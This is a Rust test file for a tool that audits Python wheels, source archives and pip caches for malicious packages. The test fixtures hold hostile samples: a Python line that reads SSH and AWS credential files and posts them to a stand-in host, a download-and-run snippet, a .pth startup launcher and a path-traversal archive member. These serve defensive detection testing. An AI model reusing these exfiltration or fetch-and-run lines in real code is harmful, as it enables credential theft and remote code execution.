//! Wheels, source archives and caches, audited as files.

use crate::packed::{gzip, tar, zip};
use crate::{scratch, terms};
use base64::Engine as _;
use guard::advisory::Advisories;
use guard::finding::{Finding, Kind, Severity, Why};
use guard::{Ask, Report};
use std::fs;
use std::path::Path;

pub(crate) fn sha256(bytes: &[u8]) -> String {
    let digest = aws_lc_rs::digest::digest(&aws_lc_rs::digest::SHA256, bytes);
    base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(digest.as_ref())
}

/// The members of an honest wheel: its files, its metadata, and their RECORD.
pub(crate) fn members(name: &str, version: &str, files: &[(&str, &str)]) -> Vec<(String, Vec<u8>)> {
    let own = format!("{name}-{version}.dist-info");
    let mut all: Vec<(String, Vec<u8>)> =
        files.iter().map(|(name, text)| ((*name).to_owned(), text.as_bytes().to_vec())).collect();
    let metadata = format!("Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n");
    all.push((format!("{own}/METADATA"), metadata.into_bytes()));
    let rows: Vec<String> =
        all.iter().map(|(n, b)| format!("{n},sha256={},{}\n", sha256(b), b.len())).collect();
    all.push((format!("{own}/RECORD"), format!("{}{own}/RECORD,,\n", rows.concat()).into_bytes()));
    all
}

pub(crate) fn packed(members: &[(String, Vec<u8>)]) -> Vec<u8> {
    let borrowed: Vec<(&str, &[u8])> =
        members.iter().map(|(name, bytes)| (name.as_str(), bytes.as_slice())).collect();
    zip(&borrowed)
}

fn audit(path: &Path) -> Report {
    let ask = Ask { paths: vec![path.to_owned()], terms: terms() };
    guard::audit(&ask, &Advisories::built_in())
}

fn of_wheel(file: &str, members: &[(String, Vec<u8>)]) -> Report {
    let path = scratch("wheel").join(file);
    fs::write(&path, packed(members)).unwrap();
    audit(&path)
}

fn of_kind(report: &Report, kind: Kind) -> Vec<&Finding> {
    report.findings.iter().filter(|finding| finding.kind == kind).collect()
}

const LAUNCHER: &str =
    "import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', 'pass'])\n";

#[test]
fn an_honest_wheel_gives_its_name_and_nothing_else() {
    let report = of_wheel(
        "thing-1.0-py3-none-any.whl",
        &members("thing", "1.0", &[("thing/__init__.py", "x = 1\n")]),
    );
    assert_eq!(report.packages, 1);
    assert!(report.findings.is_empty(), "{:?}", report.findings);
    assert_eq!(report.gaps.iter().map(|g| g.why).collect::<Vec<_>>(), [Why::NotCovered]);
}

#[test]
fn a_recorded_start_up_file_in_a_wheel_is_critical() {
    let files = [("litellm/__init__.py", ""), ("litellm_init.pth", LAUNCHER)];
    let report = of_wheel("litellm-1.82.8-py3-none-any.whl", &members("litellm", "1.82.8", &files));
    let start = of_kind(&report, Kind::StartupCode);
    assert_eq!((start.len(), start[0].severity), (1, Severity::Critical));
    assert!(start[0].meaning.contains("runs at every Python start"));
    assert!(of_kind(&report, Kind::Integrity).is_empty(), "its RECORD is right");
    assert_eq!(of_kind(&report, Kind::Malicious)[0].subject, "litellm 1.82.8");
    let moved = [("thing-1.0.data/purelib/late.pth", LAUNCHER), ("deep/no.pth", LAUNCHER)];
    let report = of_wheel("thing-1.0-py3-none-any.whl", &members("thing", "1.0", &moved));
    assert_eq!(of_kind(&report, Kind::StartupCode).len(), 1);
}

#[test]
fn what_differs_is_not_listed_or_leaves_is_told() {
    let honest = members("thing", "1.0", &[("thing/a.py", "x = 1\n"), ("thing/b.py", "y = 1\n")]);
    let name = "thing-1.0-py3-none-any.whl";
    let mut changed = honest.clone();
    changed[0].1 = b"x = 2\n".to_vec();
    let report = of_wheel(name, &changed);
    assert_eq!(report.findings[0].subject, "thing/a.py of thing 1.0");
    assert_eq!(report.findings[0].severity, Severity::High);
    let mut more = honest.clone();
    more.push(("thing/c.py".into(), b"z = 1\n".to_vec()));
    assert!(of_wheel(name, &more).findings[0].subject.contains("c.py"));
    let mut fewer = honest.clone();
    fewer.remove(1);
    assert!(of_wheel(name, &fewer).findings[0].evidence[0].text.contains("b.py"));
    let mut leaving = honest.clone();
    leaving.push(("../../evil.py".into(), b"z = 1\n".to_vec()));
    assert!(of_wheel(name, &leaving).findings.iter().any(|f| f.severity == Severity::High));
    let mut twice = honest.clone();
    twice.push(("thing/a.py".into(), b"x = 1\n".to_vec()));
    assert!(of_wheel(name, &twice).findings.iter().any(|f| f.severity == Severity::High));
    let report = of_wheel("other-2.0-py3-none-any.whl", &honest);
    assert!(report.findings[0].evidence[0].text.contains("holds thing 1.0"));
}

#[test]
fn wheels_in_a_folder_and_in_pips_cache_are_found_and_other_archives_passed_over() {
    let folder = scratch("caches");
    let wheel = packed(&members("litellm", "1.82.7", &[("litellm/__init__.py", "")]));
    let cache = folder.join("pip/http-v2/a/b/c");
    fs::create_dir_all(&cache).unwrap();
    fs::write(cache.join("abc.body"), &wheel).unwrap();
    fs::write(cache.join("page.body"), "<html>").unwrap();
    fs::write(folder.join("litellm-1.82.7-py3-none-any.whl"), &wheel).unwrap();
    fs::write(folder.join("data-1.0.tar.gz"), gzip(&tar(&[("data/x", b"1")]))).unwrap();
    let report = audit(&folder);
    assert_eq!(report.packages, 2);
    assert_eq!(of_kind(&report, Kind::Malicious)[0].evidence.len(), 2 + 2, "{:?}", report.findings);
    assert!(!report.gaps.iter().any(|gap| gap.why == Why::Nothing), "{:?}", report.gaps);
}

#[test]
fn a_source_archive_gives_its_name_and_says_that_building_runs_code() {
    let text = b"Metadata-Version: 2.1\nName: thing\nVersion: 1.0\n";
    let path = scratch("sdist").join("thing-1.0.tar.gz");
    let packed = gzip(&tar(&[("thing-1.0/PKG-INFO", text), ("thing-1.0/setup.py", b"")]));
    fs::write(&path, packed).unwrap();
    let report = audit(&path);
    assert_eq!((report.packages, report.findings[0].severity), (1, Severity::Low));
    assert!(report.findings[0].evidence[0].text.contains("setup.py"));
}

#[test]
fn all_code_of_a_source_archive_is_judged_and_not_its_setup_alone() {
    let stealer: &[u8] = b"import requests\nrequests.post('https://x.invalid/', data=open('/nowhere/.ssh/id_rsa').read() + open('/nowhere/.aws/credentials').read())\n";
    let text: &[u8] = b"Metadata-Version: 2.1\nName: thing\nVersion: 1.0\n";
    for (file, bytes, kind) in [
        ("thing-1.0/setup.py", stealer, Kind::Code),
        ("thing-1.0/src/thing/util/net.py", stealer, Kind::Code),
        ("thing-1.0/_build_backend/__init__.py", stealer, Kind::Code),
        ("thing-1.0/thing_init.pth", LAUNCHER.as_bytes(), Kind::StartupCode),
    ] {
        let path = scratch("sdist").join("thing-1.0.tar.gz");
        fs::write(&path, gzip(&tar(&[("thing-1.0/PKG-INFO", text), (file, bytes)]))).unwrap();
        let report = audit(&path);
        let found = of_kind(&report, kind);
        assert_eq!(found.len(), 1, "{file}: {:?}", report.findings);
        assert_eq!(found[0].severity, Severity::Critical, "{file}");
        let place = found[0].evidence[0].place.as_ref().unwrap();
        assert_eq!(place.file.as_ref(), path.join(file), "{file}");
    }
}

#[test]
fn what_a_source_archive_does_not_install_is_no_alarm() {
    let fetches: &[u8] = b"import subprocess, urllib.request\nopen('x', 'wb').write(urllib.request.urlopen('https://x.invalid').read())\nsubprocess.run(['./x'])\n";
    let text: &[u8] = b"Metadata-Version: 2.1\nName: thing\nVersion: 1.0\n";
    for (file, severity) in [
        ("thing-1.0/thing/build.py", Some(Severity::Critical)),
        // Installed, and imported by nobody but test runners.
        ("thing-1.0/thing/tests/build.py", Some(Severity::Medium)),
        ("thing-1.0/examples/guest/setup.py", Some(Severity::Medium)),
        ("thing-1.0/vendored-tool/manual tests/build.py", Some(Severity::Medium)),
        ("thing-1.0/tests/sitecustomize.py", Some(Severity::Medium)),
        ("thing-1.0/docs/fetch.txt", None),
    ] {
        let path = scratch("sdist").join("thing-1.0.tar.gz");
        fs::write(&path, gzip(&tar(&[("thing-1.0/PKG-INFO", text), (file, fetches)]))).unwrap();
        let report = audit(&path);
        let found = report.findings.iter().filter(|f| f.kind != Kind::Origin);
        let found: Vec<_> = found.map(|f| f.severity).collect();
        assert_eq!(found, severity.into_iter().collect::<Vec<_>>(), "{file}");
    }
}

#[test]
fn what_holds_no_packages_is_a_gap_when_it_is_named() {
    let folder = scratch("named");
    for (name, bytes) in [
        ("x.zip", zip(&[("a", b"1")])),
        ("x.tar", tar(&[("a/b", b"1")])),
        ("x.whl", b"PK\x03\x04 cut".to_vec()),
        ("x.tar.gz", vec![0x1f, 0x8b, 8, 0]),
    ] {
        fs::write(folder.join(name), bytes).unwrap();
        let report = audit(&folder.join(name));
        assert_eq!(report.outcome.exit_code(), 2, "{name}: {:?}", report.findings);
        assert!(!report.gaps.is_empty());
    }
}
